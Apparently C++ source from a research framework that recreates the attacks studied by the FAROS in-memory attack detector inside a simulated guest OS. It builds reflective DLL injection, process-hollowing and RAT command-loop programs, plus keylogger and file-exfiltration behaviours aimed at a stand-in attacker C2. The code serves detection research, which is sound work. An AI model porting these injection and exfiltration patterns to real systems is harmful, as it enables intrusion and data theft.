      a.ret();
      break;
    case PayloadEnding::kLoopForever: {
      a.label("forever");
      emit_sys(a, Sys::kNtYield);
      a.jmp("forever");
      break;
    }
  }

  if (!spec.erase_self) emit_data();

  return a.assemble(0);
}

}  // namespace faros::attacks
