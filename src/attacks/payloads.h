// Position-independent payload builders — the "shellcode" side of every
// scenario. A payload is a self-contained FV32 blob (assembled at base 0,
// PC-relative data addressing) that can be dropped at any address in any
// process: served over the simulated network by the C2, embedded in a
// hollowing loader's image, or pushed as "JIT bytecode".
#pragma once

#include <string>

#include "common/result.h"
#include "common/types.h"

namespace faros::attacks {

enum class PayloadAction {
  /// Resolve user32!MessageBoxA by walking export tables inline, then call
  /// it — the classic reflective-DLL proof of injection (paper Section VI:
  /// "The injected DLL only showed a pop-up message from the target
  /// process").
  kMessageBox,
  /// Announce via MessageBoxA, then log keyboard-device input to a file
  /// (the Lab 3-3 process-hollowing keylogger analogue).
  kKeylogger,
  /// Pure arithmetic loop: no linking at all. Used for the 18 benign JIT
  /// workloads that FAROS must NOT flag.
  kCompute,
  /// Resolve ntdll!RtlMemset inline (runtime linking), call it, then
  /// compute. Network-delivered code that links via export tables — the
  /// JIT false-positive shape (2 of the 20 Table III workloads).
  kLinkedCompute,
};

enum class PayloadEnding {
  kExit,         // NtExit(0): ends the (victim) process
  kRet,          // plain ret: for payloads invoked via callr
  kLoopForever,  // yield loop: stays resident (gives malfind a target)
};

struct PayloadSpec {
  PayloadAction action = PayloadAction::kMessageBox;
  PayloadEnding ending = PayloadEnding::kExit;
  /// Overwrite the payload's own code with zeros after acting (transient
  /// in-memory attack: defeats end-of-run memory dumps, Section VI-B).
  bool erase_self = false;
  std::string message = "FAROS-INJECTED";
  u32 compute_iters = 128;
  u32 keystrokes = 3;
  std::string log_path = "C:/Temp/keys.log";
};

/// Assembles the payload blob. Entry point is offset 0.
Result<Bytes> build_payload(const PayloadSpec& spec);

}  // namespace faros::attacks
