#include "attacks/programs.h"

#include "attacks/guest_common.h"
#include "common/hash.h"
#include "os/runtime.h"
#include "os/syscalls.h"
#include "vm/phys_mem.h"

namespace faros::attacks {

using os::ImageBuilder;
using os::kUserImageBase;
using os::Sys;
using vm::Assembler;
using vm::Reg;

Result<os::Image> build_idle_program(const std::string& name) {
  ImageBuilder ib(name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  a.label("forever");
  emit_sys(a, Sys::kNtYield);
  a.jmp("forever");
  return ib.build();
}

Result<os::Image> build_helper_program() {
  ImageBuilder ib("helper.exe", kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  a.movi_label(Reg::R1, "msg");
  a.movi(Reg::R2, 11);
  emit_sys(a, Sys::kNtDebugPrint);
  emit_exit(a, 0);
  a.label("msg");
  a.data_str("helper done", false);
  return ib.build();
}

Result<os::Image> build_inject_client(const InjectClientSpec& spec) {
  const u32 ip = spec.c2_ip ? spec.c2_ip : kAttackerIp;
  const u16 port = spec.c2_port ? spec.c2_port : kAttackerPort;
  const bool self = spec.target_name.empty();

  ImageBuilder ib("inject_client.exe", kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  if (!spec.dns_name.empty()) {
    // Stage the connection through DNS, like the Metasploit
    // reverse_tcp_dns stager.
    emit_sys(a, Sys::kNtSocket);
    a.mov(Reg::R10, Reg::R0);
    a.movi_label(Reg::R1, "c2name");
    emit_sys(a, Sys::kNtResolveHost);
    a.mov(Reg::R12, Reg::R0);
    a.mov(Reg::R1, Reg::R10);
    a.mov(Reg::R2, Reg::R12);
    a.movi(Reg::R3, port);
    emit_sys(a, Sys::kNtConnect);
  } else {
    emit_connect(a, ip, port);
  }
  emit_send_label(a, "req", 3);

  // Local staging buffer (RW) + download the payload.
  emit_alloc_self(a, spec.recv_buf, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, spec.recv_buf);
  a.mov(Reg::R8, Reg::R0);  // payload length

  if (self) {
    // Self-injection: RWX buffer in our own space, guest-code memcpy (so
    // every payload byte's taint travels with it), then call it.
    emit_alloc_self(a, spec.recv_buf,
                    os::kProtRead | os::kProtWrite | os::kProtExec);
    a.mov(Reg::R6, Reg::R0);
    a.movi(Reg::R4, 0);
    a.label("cp_loop");
    a.cmp(Reg::R4, Reg::R8);
    a.bgeu("cp_done");
    a.add(Reg::R5, Reg::R9, Reg::R4);
    a.ld8(Reg::R7, Reg::R5, 0);
    a.add(Reg::R5, Reg::R6, Reg::R4);
    a.st8(Reg::R5, 0, Reg::R7);
    a.addi(Reg::R4, Reg::R4, 1);
    a.jmp("cp_loop");
    a.label("cp_done");
    a.callr(Reg::R6);  // payload should end with NtExit or ret
    emit_exit(a, 0);
  } else {
    // Remote injection: find the victim, carve an RWX region in it, write
    // the payload across the process boundary, hijack its entry point.
    a.movi_label(Reg::R1, "target");
    emit_sys(a, Sys::kNtOpenProcessByName);
    a.mov(Reg::R7, Reg::R0);
    a.mov(Reg::R1, Reg::R7);
    a.movi(Reg::R2, spec.recv_buf);
    a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
    emit_sys(a, Sys::kNtAllocateVirtualMemory);
    a.mov(Reg::R6, Reg::R0);
    a.mov(Reg::R1, Reg::R7);
    a.mov(Reg::R2, Reg::R6);
    a.mov(Reg::R3, Reg::R9);
    a.mov(Reg::R4, Reg::R8);
    emit_sys(a, Sys::kNtWriteVirtualMemory);
    a.mov(Reg::R1, Reg::R7);
    a.mov(Reg::R2, Reg::R6);
    emit_sys(a, Sys::kNtSetEntryPoint);
    emit_exit(a, 0);
  }

  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("target");
  a.data_str(spec.target_name);
  if (!spec.dns_name.empty()) {
    a.align(8);
    a.label("c2name");
    a.data_str(spec.dns_name);
  }
  return ib.build();
}

Result<os::Image> build_hollow_loader(const Bytes& payload,
                                      const std::string& victim_path) {
  ImageBuilder ib("process_hollowing.exe", kUserImageBase);
  Assembler& a = ib.asm_();
  const u32 plen = static_cast<u32>(payload.size());

  a.label("_start");
  // Fork the benign child suspended.
  a.movi_label(Reg::R1, "victim");
  a.movi(Reg::R2, 1);  // CREATE_SUSPENDED
  emit_sys(a, Sys::kNtCreateProcess);
  a.mov(Reg::R7, Reg::R0);
  // Hollow it out: unmap the legitimate image.
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, kUserImageBase);
  emit_sys(a, Sys::kNtUnmapViewOfSection);
  // Carve an RWX region and write the embedded payload into it.
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, vm::page_ceil(plen));
  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(a, Sys::kNtAllocateVirtualMemory);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  a.movi_label(Reg::R3, "payload");
  a.movi(Reg::R4, plen);
  emit_sys(a, Sys::kNtWriteVirtualMemory);
  // Redirect the entry point and resume the shell.
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  emit_sys(a, Sys::kNtSetEntryPoint);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, Sys::kNtResumeProcess);
  emit_exit(a, 0);

  a.align(8);
  a.label("victim");
  a.data_str(victim_path);
  a.align(8);
  a.label("payload");
  a.data(payload);
  return ib.build();
}

Result<os::Image> build_rat_program(const RatSpec& spec) {
  const u32 ip = spec.c2_ip ? spec.c2_ip : kAttackerIp;
  const u16 port = spec.c2_port ? spec.c2_port : kAttackerPort;

  ImageBuilder ib(spec.name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  emit_connect(a, ip, port);
  emit_send_label(a, "ready", 5);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);

  a.label("main_loop");
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);
  a.cmpi(Reg::R8, 0);
  a.beq("quit");
  a.ld8(Reg::R1, Reg::R9, 0);
  a.cmpi(Reg::R1, 'I');
  a.beq("do_inject");
  a.cmpi(Reg::R1, 'S');
  a.beq("do_shell");
  a.cmpi(Reg::R1, 'U');
  a.beq("do_upload");
  a.cmpi(Reg::R1, 'D');
  a.beq("do_drop");
  a.jmp("quit");

  a.label("do_inject");
  a.movi_label(Reg::R1, "target");
  emit_sys(a, Sys::kNtOpenProcessByName);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, 4096);
  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(a, Sys::kNtAllocateVirtualMemory);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  a.mov(Reg::R3, Reg::R9);
  a.addi(Reg::R3, Reg::R3, 1);  // skip the command byte
  a.mov(Reg::R4, Reg::R8);
  a.subi(Reg::R4, Reg::R4, 1);
  emit_sys(a, Sys::kNtWriteVirtualMemory);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  emit_sys(a, Sys::kNtSetEntryPoint);
  emit_send_label(a, "done", 4);  // ack so the C2 issues the next command
  a.jmp("main_loop");

  a.label("do_shell");
  a.movi_label(Reg::R1, "helper");
  a.movi(Reg::R2, 0);
  emit_sys(a, Sys::kNtCreateProcess);
  a.mov(Reg::R1, Reg::R0);
  emit_sys(a, Sys::kNtWaitProcess);
  emit_send_label(a, "done", 4);
  a.jmp("main_loop");

  a.label("do_upload");
  a.movi_label(Reg::R1, "secret");
  emit_sys(a, Sys::kNtOpenFile);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.movi_label(Reg::R2, "iobuf");
  a.movi(Reg::R3, 64);
  emit_sys(a, Sys::kNtReadFile);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R10);
  a.movi_label(Reg::R2, "iobuf");
  a.mov(Reg::R3, Reg::R6);
  emit_sys(a, Sys::kNtSend);
  a.jmp("main_loop");

  a.label("do_drop");
  a.movi_label(Reg::R1, "drop");
  emit_sys(a, Sys::kNtCreateFile);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R9);
  a.addi(Reg::R2, Reg::R2, 1);
  a.mov(Reg::R3, Reg::R8);
  a.subi(Reg::R3, Reg::R3, 1);
  emit_sys(a, Sys::kNtWriteFile);
  emit_send_label(a, "done", 4);
  a.jmp("main_loop");

  a.label("quit");
  emit_exit(a, 0);

  a.align(8);
  a.label("ready");
  a.data_str("READY", false);
  a.align(8);
  a.label("done");
  a.data_str("done", false);
  a.align(8);
  a.label("target");
  a.data_str(spec.inject_target);
  a.align(8);
  a.label("helper");
  a.data_str(paths::kHelper);
  a.align(8);
  a.label("secret");
  a.data_str(paths::kSecretDoc);
  a.align(8);
  a.label("drop");
  a.data_str("C:/Temp/drop.bin");
  a.align(8);
  a.label("iobuf");
  a.zeros(64);
  return ib.build();
}

Result<os::Image> build_jit_host(const std::string& name, u32 c2_ip,
                                 u16 c2_port) {
  const u32 ip = c2_ip ? c2_ip : kAttackerIp;
  const u16 port = c2_port ? c2_port : kAttackerPort;

  ImageBuilder ib(name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  emit_connect(a, ip, port);
  emit_send_label(a, "req", 7);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);
  // "JIT-compile": emit the downloaded code into an executable buffer,
  // byte by byte with guest instructions so taint travels with the code.
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
  a.mov(Reg::R6, Reg::R0);
  a.movi(Reg::R4, 0);
  a.label("emit_loop");
  a.cmp(Reg::R4, Reg::R8);
  a.bgeu("emit_done");
  a.add(Reg::R5, Reg::R9, Reg::R4);
  a.ld8(Reg::R7, Reg::R5, 0);
  a.add(Reg::R5, Reg::R6, Reg::R4);
  a.st8(Reg::R5, 0, Reg::R7);
  a.addi(Reg::R4, Reg::R4, 1);
  a.jmp("emit_loop");
  a.label("emit_done");
  a.callr(Reg::R6);  // run the compiled unit (payload ends with ret)
  emit_exit(a, 0);

  a.align(8);
  a.label("req");
  a.data_str("GETCODE", false);
  return ib.build();
}

const char* behavior_name(Behavior b) {
  switch (b) {
    case Behavior::kIdle: return "Idle";
    case Behavior::kRun: return "Run";
    case Behavior::kAudioRecord: return "Audio Record";
    case Behavior::kFileTransfer: return "File Transfer";
    case Behavior::kKeylogger: return "Key logger";
    case Behavior::kRemoteDesktop: return "Remote Desktop";
    case Behavior::kUpload: return "Upload";
    case Behavior::kDownload: return "Download";
    case Behavior::kRemoteShell: return "Remote Shell";
  }
  return "?";
}

bool behavior_uses_network(Behavior b) {
  switch (b) {
    case Behavior::kFileTransfer:
    case Behavior::kRemoteDesktop:
    case Behavior::kUpload:
    case Behavior::kDownload:
    case Behavior::kRemoteShell: return true;
    default: return false;
  }
}

u32 behavior_c2_responses(Behavior b) {
  switch (b) {
    case Behavior::kDownload: return 1;   // payload data after "GIMME"
    case Behavior::kRemoteShell: return 1;  // command after "SHELL-READY"
    default: return 0;
  }
}

u32 behavior_device_chunks(Behavior b, u32* device_id) {
  switch (b) {
    case Behavior::kAudioRecord:
      *device_id = static_cast<u32>(os::DeviceId::kMicrophone);
      return 2;
    case Behavior::kKeylogger:
      *device_id = static_cast<u32>(os::DeviceId::kKeyboard);
      return 2;
    case Behavior::kRemoteDesktop:
      *device_id = static_cast<u32>(os::DeviceId::kScreen);
      return 2;
    default:
      *device_id = 0;
      return 0;
  }
}

Result<os::Image> build_behavior_program(
    const std::string& name, const std::vector<Behavior>& behaviors) {
  bool needs_net = false;
  for (Behavior b : behaviors) needs_net |= behavior_uses_network(b);

  ImageBuilder ib(name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  if (needs_net) emit_connect(a, kAttackerIp, kAttackerPort);

  u32 seq = 0;
  for (Behavior b : behaviors) {
    const std::string p = "b" + std::to_string(seq++);
    switch (b) {
      case Behavior::kIdle:
        // An "idle" application still pumps its event loop: some yields
        // plus a stretch of real computation.
        emit_yield_loop(a, p, 16);
        emit_busy_loop(a, p, 3000);
        break;
      case Behavior::kRun:
        a.movi_label(Reg::R1, "helper");
        a.movi(Reg::R2, 0);
        emit_sys(a, Sys::kNtCreateProcess);
        a.mov(Reg::R1, Reg::R0);
        emit_sys(a, Sys::kNtWaitProcess);
        break;
      case Behavior::kAudioRecord: {
        a.movi_label(Reg::R1, "audiolog");
        emit_sys(a, Sys::kNtCreateFile);
        a.mov(Reg::R12, Reg::R0);
        for (int i = 0; i < 2; ++i) {
          a.movi(Reg::R1, static_cast<u32>(os::DeviceId::kMicrophone));
          a.movi_label(Reg::R2, "iobuf");
          a.movi(Reg::R3, 32);
          emit_sys(a, Sys::kNtReadDevice);
          a.mov(Reg::R7, Reg::R0);
          a.mov(Reg::R1, Reg::R12);
          a.movi_label(Reg::R2, "iobuf");
          a.mov(Reg::R3, Reg::R7);
          emit_sys(a, Sys::kNtWriteFile);
        }
        break;
      }
      case Behavior::kFileTransfer: {
        a.movi_label(Reg::R1, "report");
        emit_sys(a, Sys::kNtOpenFile);
        a.mov(Reg::R12, Reg::R0);
        a.mov(Reg::R1, Reg::R12);
        a.movi_label(Reg::R2, "iobuf");
        a.movi(Reg::R3, 64);
        emit_sys(a, Sys::kNtReadFile);
        a.mov(Reg::R7, Reg::R0);
        a.mov(Reg::R1, Reg::R10);
        a.movi_label(Reg::R2, "iobuf");
        a.mov(Reg::R3, Reg::R7);
        emit_sys(a, Sys::kNtSend);
        break;
      }
      case Behavior::kKeylogger: {
        a.movi_label(Reg::R1, "keyslog");
        emit_sys(a, Sys::kNtCreateFile);
        a.mov(Reg::R12, Reg::R0);
        for (int i = 0; i < 2; ++i) {
          a.movi(Reg::R1, static_cast<u32>(os::DeviceId::kKeyboard));
          a.movi_label(Reg::R2, "iobuf");
          a.movi(Reg::R3, 16);
          emit_sys(a, Sys::kNtReadDevice);
          a.mov(Reg::R7, Reg::R0);
          a.mov(Reg::R1, Reg::R12);
          a.movi_label(Reg::R2, "iobuf");
          a.mov(Reg::R3, Reg::R7);
          emit_sys(a, Sys::kNtWriteFile);
        }
        break;
      }
      case Behavior::kRemoteDesktop: {
        for (int i = 0; i < 2; ++i) {
          a.movi(Reg::R1, static_cast<u32>(os::DeviceId::kScreen));
          a.movi_label(Reg::R2, "iobuf");
          a.movi(Reg::R3, 64);
          emit_sys(a, Sys::kNtReadDevice);
          a.mov(Reg::R7, Reg::R0);
          a.mov(Reg::R1, Reg::R10);
          a.movi_label(Reg::R2, "iobuf");
          a.mov(Reg::R3, Reg::R7);
          emit_sys(a, Sys::kNtSend);
        }
        break;
      }
      case Behavior::kUpload: {
        a.movi_label(Reg::R1, "secret");
        emit_sys(a, Sys::kNtOpenFile);
        a.mov(Reg::R12, Reg::R0);
        a.mov(Reg::R1, Reg::R12);
        a.movi_label(Reg::R2, "iobuf");
        a.movi(Reg::R3, 64);
        emit_sys(a, Sys::kNtReadFile);
        a.mov(Reg::R7, Reg::R0);
        a.mov(Reg::R1, Reg::R10);
        a.movi_label(Reg::R2, "iobuf");
        a.mov(Reg::R3, Reg::R7);
        emit_sys(a, Sys::kNtSend);
        break;
      }
      case Behavior::kDownload: {
        emit_send_label(a, "gimme", 5);
        a.movi_label(Reg::R11, "iobuf");
        emit_recv(a, Reg::R11, 128);
        a.mov(Reg::R7, Reg::R0);
        a.movi_label(Reg::R1, "dlfile");
        emit_sys(a, Sys::kNtCreateFile);
        a.mov(Reg::R12, Reg::R0);
        a.mov(Reg::R1, Reg::R12);
        a.movi_label(Reg::R2, "iobuf");
        a.mov(Reg::R3, Reg::R7);
        emit_sys(a, Sys::kNtWriteFile);
        break;
      }
      case Behavior::kRemoteShell: {
        emit_send_label(a, "shellrdy", 9);
        a.movi_label(Reg::R11, "iobuf");
        emit_recv(a, Reg::R11, 64);  // the command (content unused)
        a.movi_label(Reg::R1, "helper");
        a.movi(Reg::R2, 0);
        emit_sys(a, Sys::kNtCreateProcess);
        a.mov(Reg::R1, Reg::R0);
        emit_sys(a, Sys::kNtWaitProcess);
        emit_send_label(a, "done", 4);
        break;
      }
    }
  }
  emit_exit(a, 0);

  a.align(8);
  a.label("helper");
  a.data_str(paths::kHelper);
  a.align(8);
  a.label("report");
  a.data_str(paths::kReportDoc);
  a.align(8);
  a.label("secret");
  a.data_str(paths::kSecretDoc);
  a.align(8);
  a.label("audiolog");
  a.data_str("C:/Temp/audio.dat");
  a.align(8);
  a.label("keyslog");
  a.data_str("C:/Temp/keys.log");
  a.align(8);
  a.label("dlfile");
  a.data_str("C:/Temp/download.bin");
  a.align(8);
  a.label("gimme");
  a.data_str("GIMME", false);
  a.align(8);
  a.label("shellrdy");
  a.data_str("SHELL-RDY", false);
  a.align(8);
  a.label("done");
  a.data_str("done", false);
  a.align(8);
  a.label("iobuf");
  a.zeros(128);
  return ib.build();
}

}  // namespace faros::attacks
