// Guest program (image) builders: the benign victims, the malware loaders
// for all three in-memory injection techniques, the RAT command loop, the
// Table-IV behaviour battery, and the Table-III JIT hosts.
#pragma once

#include <string>
#include <vector>

#include "attacks/payloads.h"
#include "common/result.h"
#include "os/image.h"

namespace faros::attacks {

/// Well-known VFS paths used across scenarios.
namespace paths {
inline constexpr const char* kNotepad = "C:/Windows/notepad.exe";
inline constexpr const char* kSvchost = "C:/Windows/System32/svchost.exe";
inline constexpr const char* kExplorer = "C:/Windows/explorer.exe";
inline constexpr const char* kFirefox = "C:/Program Files/firefox.exe";
inline constexpr const char* kHelper = "C:/Windows/System32/helper.exe";
inline constexpr const char* kSecretDoc = "C:/Users/victim/secret.txt";
inline constexpr const char* kReportDoc = "C:/Users/victim/report.txt";
}  // namespace paths

/// A benign long-running process: yields forever (until machine budget).
Result<os::Image> build_idle_program(const std::string& name);

/// Prints "helper done" and exits (spawned by Run / RemoteShell behaviours).
Result<os::Image> build_helper_program();

/// The reflective-injection loader ("inject_client.exe"): connects to the
/// C2, downloads a payload, and injects it. With a target name it performs
/// remote injection (alloc + write-vm + set-entry); with an empty target it
/// self-injects (alloc RWX in itself, guest-code memcpy, callr) — the
/// paper's reverse_tcp_dns variant where shellcode and target coincide.
struct InjectClientSpec {
  std::string target_name = "notepad.exe";  // empty = self-inject
  u32 c2_ip = 0;                            // 0 = default attacker endpoint
  u16 c2_port = 0;
  u32 recv_buf = 4096;
  /// When set, the client resolves this name with NtResolveHost instead of
  /// using a hard-coded address (the reverse_tcp_dns flavour).
  std::string dns_name;
};
Result<os::Image> build_inject_client(const InjectClientSpec& spec);

/// The process-hollowing loader ("process_hollowing.exe"): embeds `payload`
/// in its own image, spawns `victim_path` suspended, unmaps the victim's
/// image, writes the payload, redirects the entry point, and resumes.
Result<os::Image> build_hollow_loader(const Bytes& payload,
                                      const std::string& victim_path);

/// RAT bot ("DarkComet"/"Njrat" analogue): connects to the C2, sends
/// "READY", then executes a command loop — 'I' inject payload into
/// `inject_target`, 'S' remote shell via helper.exe, 'U' upload a file,
/// 'D' drop a file, 'Q'/empty quit.
struct RatSpec {
  std::string name = "darkcomet.exe";
  std::string inject_target = "explorer.exe";
  u32 c2_ip = 0;
  u16 c2_port = 0;
};
Result<os::Image> build_rat_program(const RatSpec& spec);

/// Table IV behaviour set.
enum class Behavior {
  kIdle,
  kRun,
  kAudioRecord,
  kFileTransfer,
  kKeylogger,
  kRemoteDesktop,
  kUpload,
  kDownload,
  kRemoteShell,
};

const char* behavior_name(Behavior b);

/// Builds a (non-injecting) program that performs `behaviors` in order and
/// exits. Connects to the C2 once if any behaviour needs the network.
Result<os::Image> build_behavior_program(const std::string& name,
                                         const std::vector<Behavior>& behaviors);

/// Whether a behaviour needs a C2 connection / consumes a C2 response /
/// consumes input from a device queue (used by scenarios to script the
/// environment).
bool behavior_uses_network(Behavior b);
u32 behavior_c2_responses(Behavior b);   // responses the C2 must queue
u32 behavior_device_chunks(Behavior b, u32* device_id);  // device inputs

/// JIT host ("java.exe" / "browser.exe"): downloads a code blob from the
/// C2, copies it into an RWX buffer with guest-code memcpy (so taint
/// propagates byte for byte), and calls it. The blob itself decides whether
/// the workload is benign-compute or runtime-linking (Table III).
Result<os::Image> build_jit_host(const std::string& name, u32 c2_ip = 0,
                                 u16 c2_port = 0);

}  // namespace faros::attacks
