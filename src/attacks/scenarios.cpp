#include "attacks/scenarios.h"

#include "os/runtime.h"

namespace faros::attacks {

namespace {

Result<void> install_image(os::Machine& m, const std::string& path,
                           const Result<os::Image>& img) {
  if (!img.ok()) return Err<void>(img.error().message);
  m.kernel().vfs().create(path, img.value().serialize());
  return Ok();
}

constexpr const char* kSampleDir = "C:/Users/victim/";

}  // namespace

Result<RecordedRun> record_run(Scenario& sc, const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  auto r = m.boot();
  if (!r.ok()) return Err<RecordedRun>(r.error().message);
  auto source = sc.make_source();
  if (source) m.set_event_source(source.get());
  r = sc.setup(m);
  if (!r.ok()) return Err<RecordedRun>(r.error().message);

  RecordedRun out;
  out.stats = m.run(sc.budget());
  out.log = m.recording();
  out.console = m.kernel().console();
  out.traps = m.kernel().trap_log();
  return out;
}

Result<ReplayedRun> replay_run(Scenario& sc, const vm::ReplayLog& log,
                               vm::ExecHooks* cpu_plugin,
                               const std::vector<osi::GuestMonitor*>& monitors,
                               const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  if (cpu_plugin) m.attach_cpu_plugin(cpu_plugin);
  for (auto* mon : monitors) m.add_monitor(mon);
  auto r = m.boot();
  if (!r.ok()) return Err<ReplayedRun>(r.error().message);
  r = sc.setup(m);
  if (!r.ok()) return Err<ReplayedRun>(r.error().message);
  m.load_replay(log);

  ReplayedRun out;
  out.stats = m.run(sc.budget());
  out.console = m.kernel().console();
  out.traps = m.kernel().trap_log();
  return out;
}

Result<AnalyzedRun> analyze(Scenario& sc, const core::Options& opts,
                            const os::MachineConfig& cfg) {
  auto rec = record_run(sc, cfg);
  if (!rec.ok()) return Err<AnalyzedRun>(rec.error().message);

  os::Machine m(cfg);
  core::FarosEngine engine(m.kernel(), opts);
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  auto r = m.boot();
  if (!r.ok()) return Err<AnalyzedRun>(r.error().message);
  r = sc.setup(m);
  if (!r.ok()) return Err<AnalyzedRun>(r.error().message);
  m.load_replay(rec.value().log);

  AnalyzedRun out;
  out.recorded = std::move(rec).take();
  out.replayed.stats = m.run(sc.budget());
  out.replayed.console = m.kernel().console();
  out.replayed.traps = m.kernel().trap_log();
  out.findings = engine.findings();
  out.flagged = engine.flagged();
  out.report = engine.report();
  out.engine_stats = engine.stats();
  out.prov_lists = engine.store().size();
  out.tainted_bytes = engine.shadow().tainted_bytes();
  return out;
}

Result<std::vector<ExtractedImage>> extract_images(
    Scenario& sc, const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  if (auto b = m.boot(); !b.ok()) {
    return Err<std::vector<ExtractedImage>>("boot: " + b.error().message);
  }
  if (auto s = sc.setup(m); !s.ok()) {
    return Err<std::vector<ExtractedImage>>("setup: " + s.error().message);
  }
  std::vector<ExtractedImage> out;
  // Vfs::list() is path-sorted, which makes the extracted set (and every
  // downstream static report) deterministic.
  for (const std::string& path : m.kernel().vfs().list()) {
    auto data = m.kernel().vfs().read_all(path);
    if (!data.ok()) continue;
    auto img = os::Image::deserialize(data.value());
    if (!img.ok()) continue;  // documents, payload blobs, ... — not images
    out.push_back(ExtractedImage{path, std::move(img).take()});
  }
  return out;
}

// ---------------------------------------------------------------------------
// Reflective DLL injection.

ReflectiveDllScenario::ReflectiveDllScenario(ReflectiveVariant variant,
                                             bool transient)
    : variant_(variant), transient_(transient) {
  switch (variant_) {
    case ReflectiveVariant::kMeterpreter:
      victim_ = "notepad.exe";
      victim_path_ = paths::kNotepad;
      break;
    case ReflectiveVariant::kBypassUac:
      victim_ = "firefox.exe";
      victim_path_ = paths::kFirefox;
      break;
    case ReflectiveVariant::kReverseTcpDns:
      victim_ = "inject_client.exe";  // shellcode and target coincide
      break;
  }
}

std::string ReflectiveDllScenario::name() const {
  switch (variant_) {
    case ReflectiveVariant::kMeterpreter: return "reflective_dll_inject";
    case ReflectiveVariant::kReverseTcpDns: return "reverse_tcp_dns";
    case ReflectiveVariant::kBypassUac: return "bypassuac_injection";
  }
  return "reflective";
}

Result<void> ReflectiveDllScenario::setup(os::Machine& m) {
  if (!victim_path_.empty()) {
    auto r = install_image(m, victim_path_, build_idle_program(victim_));
    if (!r.ok()) return r;
  }
  InjectClientSpec spec;
  spec.target_name =
      variant_ == ReflectiveVariant::kReverseTcpDns ? "" : victim_;
  if (variant_ == ReflectiveVariant::kReverseTcpDns) {
    // The reverse_tcp_dns stager looks its C2 up by name.
    spec.dns_name = "c2.reverse-tcp.dns";
    m.kernel().add_dns(spec.dns_name, kAttackerIp);
  }
  auto r = install_image(m, std::string(kSampleDir) + "inject_client.exe",
                         build_inject_client(spec));
  if (!r.ok()) return r;

  if (!victim_path_.empty()) {
    auto pid = m.kernel().spawn(victim_path_);
    if (!pid.ok()) return Err<void>(pid.error().message);
  }
  auto pid =
      m.kernel().spawn(std::string(kSampleDir) + "inject_client.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> ReflectiveDllScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "reflective payload in " + victim_name();
  spec.erase_self = transient_;
  spec.ending = variant_ == ReflectiveVariant::kReverseTcpDns
                    ? PayloadEnding::kExit
                    : PayloadEnding::kLoopForever;
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

// ---------------------------------------------------------------------------
// Process hollowing.

Result<void> HollowingScenario::setup(os::Machine& m) {
  PayloadSpec pspec;
  pspec.action = PayloadAction::kKeylogger;
  pspec.message = "svchost hollowed";
  pspec.erase_self = transient_;
  pspec.ending = PayloadEnding::kLoopForever;
  pspec.keystrokes = 3;
  auto payload = build_payload(pspec);
  if (!payload.ok()) return Err<void>(payload.error().message);

  auto r = install_image(m, paths::kSvchost, build_idle_program("svchost.exe"));
  if (!r.ok()) return r;
  r = install_image(m, std::string(kSampleDir) + "invoice.exe",
                    build_hollow_loader(payload.value(), paths::kSvchost));
  if (!r.ok()) return r;

  // The user "opens the attachment".
  auto pid = m.kernel().spawn(std::string(kSampleDir) + "invoice.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);

  // Keystrokes for the keylogger to steal.
  for (int i = 0; i < 3; ++i) {
    std::string keys = "hunter" + std::to_string(i) + "\n";
    m.inject_device(static_cast<u32>(os::DeviceId::kKeyboard),
                    ByteSpan(reinterpret_cast<const u8*>(keys.data()),
                             keys.size()));
  }
  return Ok();
}

// ---------------------------------------------------------------------------
// RAT code/process injection.

Result<void> RatInjectionScenario::setup(os::Machine& m) {
  auto r = install_image(m, paths::kExplorer, build_idle_program("explorer.exe"));
  if (!r.ok()) return r;
  r = install_image(m, paths::kHelper, build_helper_program());
  if (!r.ok()) return r;
  RatSpec spec;
  spec.name = rat_name_ + ".exe";
  r = install_image(m, std::string(kSampleDir) + spec.name,
                    build_rat_program(spec));
  if (!r.ok()) return r;
  m.kernel().vfs().create(paths::kSecretDoc,
